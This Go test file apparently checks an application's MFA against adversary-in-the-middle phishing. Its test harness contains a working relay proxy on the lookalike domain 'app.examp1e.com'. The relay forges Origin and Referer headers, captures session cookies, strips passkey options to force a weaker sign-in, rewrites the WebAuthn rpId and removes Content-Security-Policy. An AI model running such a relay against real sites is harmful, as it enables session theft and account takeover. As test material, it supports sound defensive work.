package phishing_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

const (
	forgedHost   = "app.examp1e.com"
	forgedOrigin = "https://" + forgedHost
)

// relay is the site in the middle. It passes each request on with the application's own Host,
// Origin and Referer, keeps the cookies that come back, and strips passkeys from pages and JSON.
type relay struct {
	hosts map[string]string // to the addresses of the servers
	// network leads to the servers by the names that they have here.
	network *http.Transport
	// stolen has the cookies of the victim who uses the relay now.
	stolen *cookiejar.Jar
	// stripped counts the passkeys that were stripped.
	stripped int
}

// newRelay serves the relay in front of a server.
func newRelay(t *testing.T, real *httptest.Server) *relay {
	t.Helper()
	r := &relay{hosts: map[string]string{realHost: real.Listener.Addr().String()}}
	r.network = r.transport()
	t.Cleanup(r.network.CloseIdleConnections)
	proxy := &httputil.ReverseProxy{Transport: r.network, ModifyResponse: r.respond,
		Rewrite: func(p *httputil.ProxyRequest) {
			p.SetURL(&url.URL{Scheme: "https", Host: realHost})
			for _, name := range []string{"Origin", "Referer"} {
				if old := p.In.Header.Get(name); old != "" {
					p.Out.Header.Set(name, strings.Replace(old, forgedOrigin, realOrigin, 1))
				}
			}
			p.Out.Header.Del("Accept-Encoding")
		}}
	server := httptest.NewTLSServer(proxy)
	t.Cleanup(server.Close)
	r.hosts[forgedHost] = server.Listener.Addr().String()
	r.begin(t)
	return r
}

// begin forgets the victim before.
func (r *relay) begin(t *testing.T) {
	t.Helper()
	var err error
	r.stolen, err = cookiejar.New(nil)
	require.NoError(t, err)
}

func (r *relay) transport() *http.Transport {
	return &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // test servers
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			host, _, err := net.SplitHostPort(addr)
			if err != nil {
				return nil, err
			}
			return new(net.Dialer).DialContext(ctx, network, r.hosts[host])
		}}
}

var passkeyForm = regexp.MustCompile(`(?s)<(form|a|script|button)[^>]*passkey.*?</(form|a|script|button)>`)

// respond keeps the cookies of a response and strips the passkeys from it.
func (r *relay) respond(w *http.Response) error {
	r.stolen.SetCookies(&url.URL{Scheme: "https", Host: realHost, Path: "/"}, w.Cookies())
	body, err := io.ReadAll(w.Body)
	if err != nil {
		return errors.Join(err, w.Body.Close())
	}
	if err := w.Body.Close(); err != nil {
		return err
	}
	switch {
	case strings.HasPrefix(w.Header.Get("Content-Type"), "text/html"):
		r.stripped += len(passkeyForm.FindAll(body, -1))
		body = passkeyForm.ReplaceAll(body, nil)
		body = bytes.ReplaceAll(body, []byte(realOrigin), []byte(forgedOrigin))
	case strings.HasPrefix(w.Header.Get("Content-Type"), "application/json"):
		body = r.strip(body)
	}
	if to := w.Header.Get("Location"); to != "" {
		w.Header.Set("Location", strings.Replace(to, realOrigin, forgedOrigin, 1))
	}
	w.Header.Del("Content-Security-Policy")
	w.Header.Set("Content-Length", strconv.Itoa(len(body)))
	w.ContentLength, w.Body = int64(len(body)), io.NopCloser(bytes.NewReader(body))
	return nil
}

// strip takes the passkeys out of the options of a challenge, and puts the relay's own domain into
// the options of a passkey.
func (r *relay) strip(body []byte) []byte {
	var object map[string]any
	if json.Unmarshal(body, &object) != nil {
		return body
	}
	if list, ok := object["options"].([]any); ok {
		kept := []any{}
		for _, o := range list {
			if one, ok := o.(map[string]any); ok && one["kind"] == "passkey" {
				r.stripped++
				continue
			}
			kept = append(kept, o)
		}
		object["options"] = kept
	}
	changed, err := json.Marshal(object)
	if err != nil {
		return body
	}
	return bytes.ReplaceAll(changed, []byte(`"rpId":"`+realHost), []byte(`"rpId":"`+forgedHost))
}

// browser is a client of one site.
type browser struct {
	*testing.T
	origin string
	client *http.Client
}

// visit returns a browser at an origin, with the cookies that it has already.
func (r *relay) visit(t *testing.T, origin string, cookies http.CookieJar) *browser {
	t.Helper()
	if cookies == nil {
		jar, err := cookiejar.New(nil)
		require.NoError(t, err)
		cookies = jar
	}
	return &browser{t, origin, &http.Client{Transport: r.network, Jar: cookies}}
}

// do sends a request and returns its status and its body.
func (b *browser) do(method, path, media, body string) (int, string) {
	b.Helper()
	r, err := http.NewRequestWithContext(b.Context(), method, b.origin+path,
		strings.NewReader(body))
	require.NoError(b, err)
	r.Header.Set("Origin", b.origin)
	r.Header.Set("Referer", b.origin+"/")
	r.Header.Set("Accept", "text/html, application/json")
	if media != "" {
		r.Header.Set("Content-Type", media)
	}
	resp, err := b.client.Do(r)
	require.NoError(b, err)
	defer func() { require.NoError(b, resp.Body.Close()) }()
	text, err := io.ReadAll(resp.Body)
	require.NoError(b, err)
	return resp.StatusCode, string(text)
}

func (b *browser) get(path string) string {
	b.Helper()
	_, body := b.do(http.MethodGet, path, "", "")
	return body
}

// post submits a form of name and value pairs.
func (b *browser) post(path string, pairs ...string) string {
	b.Helper()
	form := url.Values{}
	for i := 0; i < len(pairs); i += 2 {
		form.Set(pairs[i], pairs[i+1])
	}
	_, body := b.do(http.MethodPost, path, "application/x-www-form-urlencoded", form.Encode())
	return body
}

// api posts an object of name and value pairs, and returns the members of the response.
func (b *browser) api(path string, pairs ...string) map[string]any {
	b.Helper()
	in := map[string]string{}
	for i := 0; i < len(pairs); i += 2 {
		in[pairs[i]] = pairs[i+1]
	}
	body, err := json.Marshal(in)
	require.NoError(b, err)
	_, text := b.do(http.MethodPost, "/mfa/api/"+path, "application/json", string(body))
	var out map[string]any
	require.NoError(b, json.Unmarshal([]byte(text), &out), text)
	return out
}
